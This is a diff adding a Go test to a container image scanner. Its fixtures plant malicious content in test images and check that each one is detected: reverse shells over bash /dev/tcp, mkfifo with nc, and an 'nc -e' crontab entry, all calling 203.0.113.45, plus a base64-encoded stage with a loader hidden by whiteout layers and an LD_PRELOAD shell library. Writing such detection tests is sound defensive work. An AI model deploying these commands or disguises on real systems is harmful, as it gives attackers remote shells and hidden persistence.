@@ -495,3 +495,101 @@ func TestVerdictLeavesVulnerabilitiesApart(t *testing.T) {
 		}
 	}
 }
+
+// TestIssueCases: what scans missed before detection went by behaviour, each in a built image,
+// found by a scan alone with the categories that fit and at the layer that holds it.
+func TestIssueCases(t *testing.T) {
+	stage := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\nwhile true; do\n  bash -i >& /dev/tcp/203.0.113.45/443 0>&1\n  sleep 30\ndone\n"))
+	tests := []struct {
+		name  string
+		image imagebuild.Image
+		want  []struct {
+			rule  string
+			layer int
+			path  string
+			cats  []audit.Category
+			title string
+		}
+	}{
+		{name: "mkfifo reverse shell over two lines",
+			image: demoPlus(layer("COPY sync /usr/local/bin/ # buildkit", imagebuild.Reg("usr/local/bin/sync",
+				"#!/bin/sh\nmkfifo /tmp/.f\ncat /tmp/.f | /bin/sh -i 2>&1 | nc 203.0.113.45 4444 > /tmp/.f\n").WithMode(0o755))),
+			want: []struct {
+				rule  string
+				layer int
+				path  string
+				cats  []audit.Category
+				title string
+			}{{"STRATA-RS-003", 6, "/usr/local/bin/sync", []audit.Category{audit.CategoryReverseShell}, ""}}},
+		{name: "whited-out script and an encoded stage in a later-hidden directory",
+			image: demoPlus(
+				layer("RUN /bin/sh -c /tmp/setup.sh # buildkit",
+					imagebuild.Dir("tmp").WithMode(0o1777),
+					imagebuild.Reg("tmp/setup.sh", "#!/bin/sh\necho preparing the cache\ncp /opt/.cache/agent /usr/local/sbin/ 2>/dev/null || true\n").WithMode(0o755),
+					imagebuild.Dir("opt"), imagebuild.Dir("opt/.cache"),
+					imagebuild.Reg("opt/.cache/stage.dat", stage+"\n"),
+					imagebuild.Reg("opt/.cache/loader", "#!/bin/sh\nbase64 -d /opt/.cache/stage.dat | sh\n").WithMode(0o755)),
+				layer("RUN /bin/sh -c rm -rf /tmp/setup.sh /opt/.cache # buildkit",
+					imagebuild.Dir("tmp").WithMode(0o1777), imagebuild.Whiteout("tmp/setup.sh"),
+					imagebuild.Dir("opt"), imagebuild.Whiteout("opt/.cache"))),
+			want: []struct {
+				rule  string
+				layer int
+				path  string
+				cats  []audit.Category
+				title string
+			}{
+				{"STRATA-FS-009", 6, "/tmp/setup.sh", []audit.Category{audit.CategoryHiddenFile}, "whited out by layer 7"},
+				{"STRATA-RS-001", 6, "/opt/.cache/stage.dat", []audit.Category{audit.CategoryReverseShell, audit.CategoryHiddenFile}, "base64"},
+				{"STRATA-EX-002", 6, "/opt/.cache/loader", []audit.Category{audit.CategoryMalware, audit.CategoryHiddenFile}, ""},
+				{"STRATA-FS-008", 6, "/opt/.cache/stage.dat", []audit.Category{audit.CategoryHiddenFile}, "removed by layer 7"},
+			}},
+		{name: "nc -e in a crontab line",
+			image: demoPlus(layer("COPY jobs /etc/cron.d/ # buildkit", imagebuild.Reg("etc/cron.d/apt-refresh",
+				"SHELL=/bin/sh\n*/15 * * * * root nc -e /bin/sh 203.0.113.45 4444 >/dev/null 2>&1\n"))),
+			want: []struct {
+				rule  string
+				layer int
+				path  string
+				cats  []audit.Category
+				title string
+			}{{"STRATA-RS-002", 6, "/etc/cron.d/apt-refresh", []audit.Category{audit.CategoryReverseShell, audit.CategoryPersistence}, ""}}},
+		{name: "LD_PRELOAD library that connects, dup2s and execs a shell",
+			image: func() imagebuild.Image {
+				img := demoPlus(layer("COPY lib /usr/share/lib # buildkit",
+					imagebuild.RegBytes("usr/share/lib/libnss_cache.so", imagebuild.ReverseShellSO()).WithMode(0o755)))
+				img.Config.Env = append(img.Config.Env, "LD_PRELOAD=/usr/share/lib/libnss_cache.so")
+				return img
+			}(),
+			want: []struct {
+				rule  string
+				layer int
+				path  string
+				cats  []audit.Category
+				title string
+			}{{"STRATA-LP-001", 6, "/usr/share/lib/libnss_cache.so", []audit.Category{audit.CategoryLDPreload, audit.CategoryReverseShell}, ""}}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			res := scanRef(t, saveImage(t, tc.image, nil), nil)
+			for _, w := range tc.want {
+				f := find(res, w.rule, w.layer, w.path)
+				if f == nil {
+					t.Errorf("no %s at layer %d %s; got:\n%s", w.rule, w.layer, w.path, dump(res))
+					continue
+				}
+				for _, c := range w.cats {
+					if !f.Is(c) {
+						t.Errorf("%s at %s: categories %v lack %s", w.rule, w.path, f.Categories(), c)
+					}
+				}
+				if f.Severity < audit.Medium || !strings.Contains(f.Title, w.title) {
+					t.Errorf("%s at %s: %s %q, want at least medium and %q", w.rule, w.path, f.Severity, f.Title, w.title)
+				}
+				if len(f.Techniques) == 0 {
+					t.Errorf("%s at %s: no ATT&CK technique", w.rule, w.path)
+				}
+			}
+		})
+	}
+}
